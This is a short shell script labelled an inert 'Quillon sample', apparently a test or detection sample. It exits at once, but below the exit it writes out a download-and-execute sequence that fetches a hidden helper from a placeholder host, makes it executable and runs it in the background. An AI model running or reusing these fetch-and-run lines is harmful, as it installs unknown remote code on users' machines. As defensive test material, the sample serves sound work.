#!/bin/sh
# Quillon sample: inert. It stops here, before any of the lines below could run.
exit 0

curl -fsSL https://payload.example.invalid/helper -o "${TMPDIR}/.helper"
chmod +x "${TMPDIR}/.helper"
"${TMPDIR}/.helper" &
